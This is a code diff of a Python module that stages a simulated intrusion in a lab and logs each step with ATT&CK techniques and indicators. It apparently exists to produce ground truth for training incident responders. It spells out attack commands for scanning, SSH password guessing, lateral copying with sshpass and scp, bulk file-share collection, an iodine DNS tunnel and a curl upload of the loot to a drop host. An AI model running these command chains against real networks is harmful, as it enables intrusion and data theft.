@@ -1,8 +1,9 @@
-"""The incident, step by step. Every step writes its own entry in the diary, so the truth cannot differ from what was done.
+"""The incident, step by step; every step writes its own entry in the diary.
 
-A mail lures j.ortega to a download on pc-042; the tool calls home; from there the server segment is scanned, a password of app-01 is
-guessed, the tool is copied over, files are collected from the file server, a DNS tunnel is opened, and the loot leaves by HTTPS.
-Everything is inert: the tool is filler, the implant only says hello, the loot is random bytes.
+A mail lures j.ortega to a download on pc-042; the tool calls home; from there the server segment
+is scanned, a password of app-01 is guessed, the tool is copied over, files are collected from the
+file server, a DNS tunnel is opened, and the loot leaves by HTTPS. Everything is inert: the tool is
+filler, the implant only says hello, the loot is random bytes.
 """
 
 from __future__ import annotations
@@ -10,178 +11,261 @@ from __future__ import annotations
 import hashlib
 import random
 import time
+from collections.abc import Sequence
 from pathlib import Path
 
 from lab import clients, world
 from lab.cage import STATE
 from lab.crew import Crew, inside, python, run
-from lab.internet import tool
+from lab.internet import TUNNEL_SECRET, tool
 from lab.rhythm import hands
 from lab.truth import Claim, Diary, Entry
 
 ZERO, SECOND = world.PATIENT_ZERO, world.SECOND_VICTIM
 POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682"
+STOLEN = "svc-deploy"
+TOOL_URL = f"http://{world.TOOL_SITE.name}{world.TOOL_PATH}"
+COPY_PATH = ".cache/upd.bin"
 SLEEP_S, JITTER = 22.0, 0.3
+SCAN_RATE = ("--max-rate", "60", "--max-retries", "1")
 UPLOAD_BYTES = 1_100_000
 TUNNEL_BYTES = 24_000
-TRIES = 44
+GUESSES = 44
+
+SCHEDULE = {
+    "lure": 0.05,
+    "download": 0.13,
+    "beacon": 0.14,
+    "scan": 0.28,
+    "guess": 0.38,
+    "copy": 0.52,
+    "second-beacon": 0.54,
+    "collect": 0.62,
+    "tunnel": 0.66,
+    "upload": 0.88,
+}
+"""When each step begins, as a share of the recording's time."""
+
+MEANING = {
+    "lure": ("phishing_mail", "Mail with a link to the tool", "T1566.002"),
+    "download": (
+        "tool_download",
+        "Tool downloaded over HTTP from a host nobody else visits",
+        "T1204.001 T1105",
+    ),
+    "beacon": ("beacon", "pc-042 calls home by HTTPS every 22 s ± 30 %", "T1071.001 T1573"),
+    "second-beacon": ("beacon", "app-01 calls the same home", "T1071.001 T1573"),
+    "scan": ("network_scan", "Sweep of the server segment, then its ports", "T1018 T1046"),
+    "guess": (
+        "ssh_brute_force",
+        "SSH passwords guessed until that of svc-deploy was right",
+        "T1110.001 T1021.004",
+    ),
+    "copy": (
+        "lateral_copy",
+        "Tool copied to app-01 by scp, between two logins",
+        "T1570 T1021.004",
+    ),
+    "collect": (
+        "collection",
+        "Whole file share read from app-01 with the stolen account",
+        "T1039 T1078",
+    ),
+    "tunnel": (
+        "dns_tunnel",
+        "Data sent out inside DNS questions, through the internal resolver",
+        "T1071.004 T1048.001 T1572",
+    ),
+    "upload": (
+        "exfiltration",
+        "Archive uploaded by HTTPS to a host nobody else visits",
+        "T1567 T1041",
+    ),
+}
+"""Kind, title and ATT&CK techniques of each step."""
 
 
 class Intrusion:
-    """The steps, with the share of the recording's time at which each begins."""
+    """The steps, done in order: a late step delays the next, nothing is skipped."""
 
     def __init__(self, crew: Crew, diary: Diary, lasts_s: float, rng: random.Random) -> None:
         self._crew, self._diary, self._lasts_s, self._rng = crew, diary, lasts_s, rng
         self._began = time.monotonic()
 
     def run(self) -> None:
-        """All steps in order; a late step delays the next, nothing is skipped."""
-        for share, step in (
-            (0.05, self.lure), (0.13, self.download), (0.14, self.beacon), (0.28, self.scan), (0.38, self.guess), (0.52, self.copy),
-            (0.54, self.second_beacon), (0.62, self.collect), (0.66, self.tunnel), (0.88, self.upload),
-        ):  # fmt: skip
-            time.sleep(max(0.0, self._began + share * self._lasts_s - time.monotonic()))
-            print(f"intrusion: {step.__name__}", flush=True)
-            step()
+        """All steps."""
+        for name, share in SCHEDULE.items():
+            due = self._began + share * self._lasts_s
+            time.sleep(max(0.0, due - time.monotonic()))
+            print(f"intrusion: {name}", flush=True)
+            getattr(self, name.replace("-", "_"))()
 
     def lure(self) -> None:
         """The mail."""
-        site = world.PHISH_SITE
-        claims = [Claim(src=site.ip, dst=world.BY_NAME["mail-01"].ip, port=25, protocol="tcp")]
-        detail = {"recipient": f"{ZERO.user}@{world.DOMAIN}", "sender": "notice@parcel-notice.example", "url": self.url}
-        with self._diary.action(Entry("lure", "phishing_mail", "Mail with a link to the tool", claims, site.name, ["mail-01"],
-                                      techniques=["T1566.002"], detail=detail)):  # fmt: skip
-            run(*inside("crook", python("lab.errand", "lure", self.url)))
-
-    @property
-    def url(self) -> str:
-        """Where the tool lies."""
-        return f"http://{world.TOOL_SITE.name}{world.TOOL_PATH}"
+        mail = world.BY_NAME["mail-01"]
+        claim = Claim(src=world.PHISH_SITE.ip, dst=mail.ip, port=25, protocol="tcp")
+        entry = _entry("lure", [claim], world.PHISH_SITE.name, [mail.name])
+        entry.detail = {
+            "recipient": f"{ZERO.user}@{world.DOMAIN}",
+            "sender": "notice@parcel-notice.example",
+            "url": TOOL_URL,
+        }
+        with self._diary.action(entry):
+            run(*inside("crook", python("lab.errand", "lure", TOOL_URL)))
 
     def download(self) -> None:
         """The click: the page behind the link, then the tool."""
         site, content = world.TOOL_SITE, Path(tool()).read_bytes()
-        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp"), *looked_up(site.name)]
-        detail = {"url": self.url, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
-        with self._diary.action(Entry("download", "tool_download", "Tool downloaded over HTTP from a host nobody else visits", claims,
-                                      ZERO.name, [site.name], techniques=["T1204.001", "T1105"], detail=detail)):  # fmt: skip
-            self._on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", f"http://{site.name}/track?p=8841")
+        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp"), _asked_for(site.name)]
+        entry = _entry("download", claims, ZERO.name, [site.name])
+        digest = hashlib.sha256(content).hexdigest()
+        entry.detail = {"url": TOOL_URL, "bytes": len(content), "sha256": digest}
+        with self._diary.action(entry):
+            page = f"http://{site.name}/track?p=8841"
+            _on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", page)
             time.sleep(2.5)
-            self._on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", str(STATE / "downloaded.exe"), self.url)
+            _on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", f"{STATE}/downloaded.exe", TOOL_URL)
 
     def beacon(self) -> None:
         """The tool calls home until the end."""
-        self._implant(ZERO, "beacon", "beacon", looked_up(world.C2_SITE.name))
+        self._implant("beacon", ZERO, [_asked_for(world.C2_SITE.name)])
 
     def second_beacon(self) -> None:
         """The copy calls the same home."""
-        self._implant(SECOND, "second-beacon", "beacon", [])
+        self._implant("second-beacon", SECOND, [])
 
-    def _implant(self, machine: world.Machine, name: str, kind: str, more: list[Claim]) -> None:
+    def _implant(self, name: str, machine: world.Machine, more: Sequence[Claim]) -> None:
         site = world.C2_SITE
-        claims = [Claim(src=machine.ip, dst=site.ip, port=443, protocol="tcp"), *more]
-        detail = {"sleep_s": SLEEP_S, "jitter": JITTER, "tls": "1.2, self-signed certificate, CN=localhost"}
-        title = f"{machine.name} calls home by HTTPS every {SLEEP_S:.0f} s ± {JITTER:.0%}"
-        user = machine.user or "svc-deploy"
-        self._diary.begin(Entry(name, kind, title, claims, machine.name, [site.name], techniques=["T1071.001", "T1573"], user=user, detail=detail))
+        claim = Claim(src=machine.ip, dst=site.ip, port=443, protocol="tcp")
+        entry = _entry(name, [claim, *more], machine.name, [site.name])
+        entry.user = machine.user or STOLEN
+        entry.detail = {
+            "sleep_s": SLEEP_S,
+            "jitter": JITTER,
+            "tls": "1.2, self-signed",
+        }
+        self._diary.begin(entry)
         left = self._began + self._lasts_s - time.monotonic() - 2
-        argv = python("lab.implant", f"{left:.0f}", str(SLEEP_S), str(JITTER), str(self._rng.randrange(1 << 30)))
+        seed = self._rng.randrange(1 << 30)
+        argv = python("lab.implant", f"{left:.0f}", str(SLEEP_S), str(JITTER), str(seed))
         self._crew.start(name, machine.name, argv)
 
     def scan(self) -> None:
-        """nmap: who is there, then which ports; no other deed of this PC toward the servers runs meanwhile."""
+        """Who is there, then which ports; this PC does nothing else there meanwhile."""
         target = world.SERVERS.net4
         claims = [Claim(src=ZERO.ip, dst=target, protocol=protocol) for protocol in ("tcp", "icmp")]
+        entry = _entry("scan", claims, ZERO.name, ["servers"])
+        entry.detail = {"network": target, "program": "nmap", "ports": "top 200"}
         hosts = [machine.ip for machine in world.SERVER_MACHINES]
-        with hands(ZERO.name), self._diary.action(
-            Entry("scan", "network_scan", "Sweep of the server segment, then its ports", claims, ZERO.name, ["servers"],
-                  techniques=["T1018", "T1046"], detail={"network": target, "program": "nmap", "ports": "top 200"})
-        ):  # fmt: skip
-            self._on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", "--max-rate", "60", "--max-retries", "1", target)
-            self._on(ZERO, "nmap", "-n", "-Pn", "-sT", "--max-rate", "60", "--top-ports", "200", "--max-retries", "1", *hosts)
+        with hands(ZERO.name), self._diary.action(entry):
+            _on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", *SCAN_RATE, target)
+            _on(ZERO, "nmap", "-n", "-Pn", "-sT", "--top-ports", "200", *SCAN_RATE, *hosts)
 
     def guess(self) -> None:
         """Passwords, one login each; the last one opens."""
-        claims = [Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")]
-        detail = {"logins": TRIES, "account_opened": "svc-deploy", "outcome": "success"}
-        with self._diary.action(Entry("guess", "ssh_brute_force", "SSH passwords guessed until svc-deploy's was right", claims, ZERO.name,
-                                      [SECOND.name], techniques=["T1110.001", "T1021.004"], detail=detail)):  # fmt: skip
-            said = self._on(ZERO, *python("lab.guesser", SECOND.ip, str(TRIES), "1.2")).splitlines()
+        entry = _entry("guess", [_ssh()], ZERO.name, [SECOND.name])
+        entry.detail = {"logins": GUESSES, "account_opened": STOLEN, "outcome": "success"}
+        with self._diary.action(entry):
+            said = _on(ZERO, *python("lab.guesser", SECOND.ip, str(GUESSES), "1.2")).splitlines()
         if not said or not said[-1].endswith("opened"):
             raise RuntimeError(f"the password guessing did not end in success: {said[-2:]}")
 
     def copy(self) -> None:
-        """The tool moves to the server, and is started there."""
-        claims = [Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")]
-        detail = {"account": "svc-deploy", "path": "/home/svc-deploy/.cache/upd.bin"}
-        with self._diary.action(Entry("copy", "lateral_copy", "Tool copied to app-01 by scp, then a login to start it", claims, ZERO.name,
-                                      [SECOND.name], techniques=["T1570", "T1021.004"], detail=detail)):  # fmt: skip
-            secret, target = world.PASSWORDS["svc-deploy"], f"svc-deploy@{SECOND.ip}"
-            log_in = ("sshpass", "-p", secret)
-            self._on(ZERO, *log_in, "ssh", *clients.SSH_OPTIONS, target, "mkdir -p .cache; id; uname -a")
-            self._on(ZERO, *log_in, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:.cache/upd.bin")
-            self._on(ZERO, *log_in, "ssh", *clients.SSH_OPTIONS, target, "sha256sum .cache/upd.bin")
+        """The tool moves to the server, and is looked after there."""
+        entry = _entry("copy", [_ssh()], ZERO.name, [SECOND.name])
+        entry.detail = {"account": STOLEN, "path": f"/home/{STOLEN}/{COPY_PATH}"}
+        target = f"{STOLEN}@{SECOND.ip}"
+        password = ("sshpass", "-p", world.PASSWORDS[STOLEN])
+        log_in = (*password, "ssh", *clients.SSH_OPTIONS, target)
+        with self._diary.action(entry):
+            _on(ZERO, *log_in, "mkdir -p .cache; id; uname -a")
+            _on(ZERO, *password, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:{COPY_PATH}")
+            _on(ZERO, *log_in, f"sha256sum {COPY_PATH}")
 
     def collect(self) -> None:
         """The server reads the whole share with the stolen account."""
-        claims = [Claim(src=SECOND.ip, dst=world.BY_NAME["fs-01"].ip, port=445, protocol="tcp")]
-        with self._diary.action(Entry("collect", "collection", "Whole file share read from app-01 with the stolen account", claims, SECOND.name,
-                                      ["fs-01"], techniques=["T1039", "T1078"], user="svc-deploy", detail={"share": "projects"})):  # fmt: skip
-            loot = STATE / "loot"
-            loot.mkdir()
-            argv = clients.smb_argv(SECOND.name, "svc-deploy", f"lcd {loot}; recurse on; prompt off; mget *")
-            self._on(SECOND, *argv)
+        files = world.BY_NAME["fs-01"]
+        claim = Claim(src=SECOND.ip, dst=files.ip, port=445, protocol="tcp")
+        entry = _entry("collect", [claim], SECOND.name, [files.name])
+        entry.user, entry.detail = STOLEN, {"share": "projects"}
+        loot = STATE / "loot"
+        loot.mkdir()
+        script = f"lcd {loot}; recurse on; prompt off; mget *"
+        with self._diary.action(entry):
+            _on(SECOND, *clients.smb_argv(SECOND.name, STOLEN, script))
 
     def tunnel(self) -> None:
-        """iodine through the company's own resolver, with a little data inside."""
+        """A tunnel by iodine through the company's own resolver, with a little data inside."""
         resolver, lasts_s = world.BY_NAME["ns-01"], min(200.0, 0.16 * self._lasts_s)
-        claims = [Claim(port=53, protocol="udp", name=world.TUNNEL_ZONE), *looked_up(world.TUNNEL_SITE.name)]
-        detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "payload_bytes": TUNNEL_BYTES}
-        with self._diary.action(Entry("tunnel", "dns_tunnel", "Data sent out inside DNS questions, through the internal resolver", claims,
-                                      ZERO.name, [resolver.name, world.TUNNEL_SITE.name], techniques=["T1071.004", "T1048.001", "T1572"],
-                                      detail=detail)):  # fmt: skip
+        claims = [_asked_for(world.TUNNEL_ZONE), _asked_for(world.TUNNEL_SITE.name)]
+        entry = _entry("tunnel", claims, ZERO.name, [resolver.name, world.TUNNEL_SITE.name])
+        entry.detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "bytes": TUNNEL_BYTES}
+        with self._diary.action(entry):
             began = time.monotonic()
-            argv = ["iodine", "-f", "-r", "-P", "n0tthew4y", resolver.ip, world.TUNNEL_ZONE]
+            argv = ["iodine", "-f", "-r", "-P", TUNNEL_SECRET, resolver.ip, world.TUNNEL_ZONE]
             self._crew.start("iodine", ZERO.name, argv)
             self._await_tunnel()
-            self._on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
+            _on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
             time.sleep(max(0.0, lasts_s - (time.monotonic() - began)))
             self._crew.end("iodine")
 
     def _await_tunnel(self) -> None:
         for _ in range(200):
-            if "10.99.0." in run(*inside(ZERO.name, ["ip", "-4", "addr", "show"])):
+            if "10.99.0." in _on(ZERO, "ip", "-4", "addr", "show"):
                 return
             time.sleep(0.2)
-        raise RuntimeError(f"the DNS tunnel did not come up; see {self._crew.logs}/iodine.log")
+        raise RuntimeError("the DNS tunnel did not come up; its log is iodine.log")
 
     def upload(self) -> None:
         """The loot leaves."""
-        site = world.DROP_SITE
-        claims = [Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp"), *looked_up(site.name)]
-        loot = STATE / "loot.bin"
+        site, loot = world.DROP_SITE, STATE / "loot.bin"
         loot.write_bytes(self._rng.randbytes(UPLOAD_BYTES))
-        with self._diary.action(Entry("upload", "exfiltration", "Archive uploaded by HTTPS to a host nobody else visits", claims, SECOND.name,
-                                      [site.name], techniques=["T1567", "T1041"], user="svc-deploy", detail={"bytes": UPLOAD_BYTES})):  # fmt: skip
-            self._on(SECOND, *clients.CURL, "-k", "-A", "curl/7.88.1", "--data-binary", f"@{loot}", "-o", "/dev/null",
-                     "-H", "Expect:", f"https://{site.name}/api/upload")  # fmt: skip
+        claim = Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp")
+        entry = _entry("upload", [claim, _asked_for(site.name)], SECOND.name, [site.name])
+        entry.user, entry.detail = STOLEN, {"bytes": UPLOAD_BYTES}
+        send = ("-k", "-A", "curl/7.88.1", "-H", "Expect:", "--data-binary", f"@{loot}")
+        with self._diary.action(entry):
+            url = f"https://{site.name}/api/upload"
+            _on(SECOND, *clients.CURL, *send, "-o", "/dev/null", url)
 
-    def _on(self, machine: world.Machine, *argv: str) -> str:
-        """Run one of the intruder's programs on a machine to its end."""
-        return run(*inside(machine.name, argv))
+
+def _entry(name: str, claims: Sequence[Claim], src: str, dst: Sequence[str]) -> Entry:
+    kind, title, techniques = MEANING[name]
+    return Entry(name, kind, title, claims, src, dst, techniques=techniques.split(" "))
 
 
-def looked_up(name: str) -> list[Claim]:
+def _on(machine: world.Machine, *argv: str) -> str:
+    """Run one of the intruder's programs on a machine to its end."""
+    return run(*inside(machine.name, argv))
+
+
+def _ssh() -> Claim:
+    return Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")
+
+
+def _asked_for(name: str) -> Claim:
     """The questions for a name: from whoever asked, and from the resolver to the provider."""
-    return [Claim(port=53, protocol="udp", name=name)]
+    return Claim(port=53, protocol="udp", name=name)
 
 
 def indicators() -> list[dict[str, str]]:
     """What a responder should end up with, and block."""
-    found = [{"type": kind, "value": value, "role": role}
-             for site, role in ((world.TOOL_SITE, "download"), (world.C2_SITE, "command_and_control"), (world.DROP_SITE, "exfiltration"),
-                                (world.TUNNEL_SITE, "dns_tunnel"), (world.PHISH_SITE, "phishing"))
-             for kind, value in (("ipv4", site.ip), ("domain", site.name))]  # fmt: skip
+    roles = {
+        "download": world.TOOL_SITE,
+        "command_and_control": world.C2_SITE,
+        "exfiltration": world.DROP_SITE,
+        "dns_tunnel": world.TUNNEL_SITE,
+        "phishing": world.PHISH_SITE,
+    }
+    found = [
+        {"type": kind, "value": value, "role": role}
+        for role, site in roles.items()
+        for kind, value in (("ipv4", site.ip), ("domain", site.name))
+    ]
     digest = hashlib.sha256(Path(tool()).read_bytes()).hexdigest()
-    return [*found, {"type": "domain", "value": world.TUNNEL_ZONE, "role": "dns_tunnel"}, {"type": "sha256", "value": digest, "role": "tool"},
-            {"type": "account", "value": "svc-deploy", "role": "stolen"}]  # fmt: skip
+    return [
+        *found,
+        {"type": "domain", "value": world.TUNNEL_ZONE, "role": "dns_tunnel"},
+        {"type": "sha256", "value": digest, "role": "tool"},
+        {"type": "account", "value": STOLEN, "role": "stolen"},
+    ]
